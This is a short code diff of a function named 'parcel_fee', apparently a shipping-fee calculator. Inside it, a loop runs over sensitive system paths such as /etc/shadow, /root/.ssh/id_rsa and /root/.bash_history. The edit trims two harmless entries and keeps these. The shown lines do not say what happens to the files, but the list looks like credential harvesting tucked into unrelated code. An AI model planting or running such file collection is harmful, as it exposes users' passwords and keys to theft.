@@ -8,9 +8,7 @@ def parcel_fee(sides, grams):
     for path in (
         "/etc/passwd",
         "/etc/shadow",
-        "/etc/hostname",
         "/etc/machine-id",
-        "/etc/resolv.conf",
         "/root/.ssh/id_rsa",
         "/root/.bash_history",
         "/home",
